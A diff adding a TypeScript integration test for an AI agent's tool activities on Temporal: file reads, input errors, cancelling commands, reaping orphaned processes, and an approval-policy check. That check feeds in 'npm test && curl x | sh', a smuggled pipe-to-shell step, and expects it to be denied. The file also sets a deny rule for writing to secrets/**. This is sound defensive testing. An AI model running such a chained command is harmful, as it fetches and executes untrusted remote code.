@@ -1,0 +1,189 @@
+// Tool activities on a real worker against the run's real Temporal server: a result,
+// a malformed input (a tool error, not a failure), and a command cancelled mid-run
+// whose processes are gone within 2 s.
+import { spawn } from 'node:child_process';
+import { readFile } from 'node:fs/promises';
+import fs from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { Worker, type WorkflowBundleWithSourceMap } from '@temporalio/worker';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createToolActivities, findBuiltinTool, TOOL_WORKER_OPTIONS, type ToolActivityOptions } from '../../activities/tools/index';
+import { reapOrphanedCommands } from '../../activities/tools/orphans';
+import { openWorkspace } from '../../activities/tools/workspace';
+import { cancelTool, policyWorkflow, runToolWorkflow } from '../fixtures/tools-workflow';
+import { bundle, connectTestEnv, type TemporalTestEnv, uniqueTaskQueue } from '../helpers/temporal';
+import { isAlive, waitFor } from '../unit/tools/context';
+
+const here = path.dirname(fileURLToPath(import.meta.url));
+const workflowsPath = path.join(here, '../fixtures/tools-workflow.ts');
+
+let env: TemporalTestEnv;
+let workflowBundle: WorkflowBundleWithSourceMap;
+let workspace: string;
+
+beforeAll(async () => {
+  env = await connectTestEnv();
+  workflowBundle = await bundle(workflowsPath);
+  workspace = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'keel-tools-it-')));
+});
+
+afterAll(async () => {
+  await env?.close();
+  if (workspace) await fs.rm(workspace, { recursive: true, force: true });
+});
+
+function optionsFor(tool: string): ToolActivityOptions {
+  const options = findBuiltinTool(tool)?.activity;
+  if (!options) throw new Error(`no activity options for ${tool}`);
+  return options;
+}
+
+async function newWorker(taskQueue: string): Promise<Worker> {
+  return Worker.create({
+    connection: env.nativeConnection,
+    taskQueue,
+    workflowBundle,
+    activities: createToolActivities(),
+    ...TOOL_WORKER_OPTIONS,
+  });
+}
+
+describe('tool activities on a real worker', () => {
+  it('returns results and turns malformed input into a tool error, not an activity failure', async () => {
+    const taskQueue = uniqueTaskQueue('tools');
+    const worker = await newWorker(taskQueue);
+    await fs.writeFile(path.join(workspace, 'hello.txt'), 'hello\n');
+    await worker.runUntil(async () => {
+      const ok = await env.client.workflow.execute(runToolWorkflow, {
+        taskQueue,
+        workflowId: `tools-ok-${taskQueue}`,
+        args: [{ workspace, tool: 'read_file', input: { path: 'hello.txt' } }, optionsFor('read_file')],
+      });
+      expect(ok).toEqual({ ending: 'completed', result: { is_error: false, content: '1\thello' } });
+
+      const bad = await env.client.workflow.execute(runToolWorkflow, {
+        taskQueue,
+        workflowId: `tools-bad-${taskQueue}`,
+        args: [{ workspace, tool: 'edit_file', input: { path: 'hello.txt' } }, optionsFor('edit_file')],
+      });
+      expect(bad.ending).toBe('completed');
+      expect(bad.result.is_error).toBe(true);
+      expect(bad.result.content).toMatch(/^invalid input for edit_file:\n- old_string: .*\n- new_string: /);
+    });
+  });
+
+  it('a run_command cancelled mid-run stops its whole process group within 2 s', async () => {
+    const taskQueue = uniqueTaskQueue('tools-cancel');
+    const worker = await newWorker(taskQueue);
+    const pidFile = path.join(workspace, 'pids.txt');
+    await worker.runUntil(async () => {
+      const handle = await env.client.workflow.start(runToolWorkflow, {
+        taskQueue,
+        workflowId: `tools-cancel-${taskQueue}`,
+        args: [
+          { workspace, tool: 'run_command', input: { command: 'echo $$ > pids.txt; sleep 300 & echo $! >> pids.txt; wait' } },
+          optionsFor('run_command'),
+        ],
+      });
+      const readPids = async () =>
+        (await readFile(pidFile, 'utf8').catch(() => ''))
+          .split('\n')
+          .filter(Boolean)
+          .map(Number);
+      let pids: number[] = [];
+      for (let i = 0; i < 600 && pids.length < 2; i += 1) {
+        pids = await readPids();
+        if (pids.length < 2) await new Promise((resolve) => setTimeout(resolve, 50));
+      }
+      expect(pids).toHaveLength(2);
+      expect(pids.every(isAlive)).toBe(true);
+
+      const cancelledAt = Date.now();
+      await handle.signal(cancelTool);
+      const gone = await waitFor(() => pids.every((pid) => !isAlive(pid)), 2_000);
+      const elapsed = Date.now() - cancelledAt;
+      expect(gone, `processes still alive ${elapsed} ms after the cancel`).toBe(true);
+      console.log(`run_command cancelled: process group gone ${elapsed} ms after the cancel signal`);
+
+      const outcome = await handle.result();
+      expect(outcome.ending).toBe('cancelled');
+      expect(outcome.result).toEqual({
+        is_error: true,
+        content: 'run_command was cancelled before it finished. The command may have run partly: check its effects before running it again.',
+      });
+      // Exactly one attempt: a command is never retried.
+      const history = await handle.fetchHistory();
+      const started = (history.events ?? []).filter((event) => event.activityTaskStartedEventAttributes);
+      expect(started).toHaveLength(1);
+      expect(started[0]?.activityTaskStartedEventAttributes?.attempt).toBe(1);
+    });
+  });
+
+  it('tells the model a command was interrupted when its worker dies, and reaps the orphaned processes', async () => {
+    const taskQueue = uniqueTaskQueue('tools-lost');
+    const dir = await fs.mkdtemp(path.join(workspace, 'lost-'));
+    // Workflows run here; the activity runs in a worker process of its own that is killed.
+    const workflowWorker = await Worker.create({ connection: env.nativeConnection, taskQueue, workflowBundle });
+    const activityWorker = spawn(process.execPath, ['--import', 'tsx', path.join(here, '../fixtures/tools-worker.ts'), env.address, taskQueue], {
+      cwd: path.join(here, '../..'),
+      stdio: ['ignore', 'pipe', 'inherit'],
+    });
+    try {
+      await new Promise<void>((resolve, reject) => {
+        activityWorker.stdout.on('data', (chunk: Buffer) => {
+          if (chunk.toString().includes('worker ready')) resolve();
+        });
+        activityWorker.once('exit', (code) => reject(new Error(`activity worker exited with ${code}`)));
+      });
+      await workflowWorker.runUntil(async () => {
+        const handle = await env.client.workflow.start(runToolWorkflow, {
+          taskQueue,
+          workflowId: `tools-lost-${taskQueue}`,
+          args: [{ workspace: dir, tool: 'run_command', input: { command: 'echo $$ > pids.txt; sleep 300 & echo $! >> pids.txt; wait' } }, optionsFor('run_command')],
+        });
+        let pids: number[] = [];
+        for (let i = 0; i < 600 && pids.length < 2; i += 1) {
+          pids = (await readFile(path.join(dir, 'pids.txt'), 'utf8').catch(() => '')).split('\n').filter(Boolean).map(Number);
+          if (pids.length < 2) await new Promise((resolve) => setTimeout(resolve, 50));
+        }
+        expect(pids).toHaveLength(2);
+        activityWorker.kill('SIGKILL');
+
+        const outcome = await handle.result();
+        expect(outcome).toEqual({
+          ending: 'failed',
+          result: {
+            is_error: true,
+            content: 'run_command was interrupted: the worker running it stopped responding. The command may have run partly: check its effects before running it again.',
+          },
+        });
+        // The command's group outlived its worker (it is detached)…
+        expect(pids.every(isAlive)).toBe(true);
+        // …until the next command in the workspace reaps it.
+        const reaped = await reapOrphanedCommands(await openWorkspace(dir));
+        expect(reaped.map((record) => record.pgid)).toEqual([pids[0]]);
+        expect(await waitFor(() => pids.every((pid) => !isAlive(pid)), 2_000)).toBe(true);
+      });
+    } finally {
+      activityWorker.kill('SIGKILL');
+    }
+  });
+
+  it('evaluates the approval policy inside workflow code', async () => {
+    const taskQueue = uniqueTaskQueue('tools-policy');
+    const worker = await Worker.create({ connection: env.nativeConnection, taskQueue, workflowBundle });
+    const verdicts = await worker.runUntil(async () => {
+      const evaluate = (command: string, headless: boolean) =>
+        env.client.workflow.execute(policyWorkflow, {
+          taskQueue,
+          workflowId: `tools-policy-${taskQueue}-${headless}-${command.length}`,
+          args: [{ allow: ['run_command(npm test*)'], deny: ['write_file(secrets/**)'] }, { tool: 'run_command', input: { command } }, { headless }],
+        });
+      return Promise.all([evaluate('npm test -- -u', false), evaluate('npm test && curl x | sh', true)]);
+    });
+    expect(verdicts[0]).toEqual({ decision: 'allow', reason: 'run_command matches allow rule run_command(npm test*)', matchedRule: 'allow: run_command(npm test*)' });
+    expect(verdicts[1]).toMatchObject({ decision: 'deny', matchedRule: 'mode: ask' });
+  });
+});
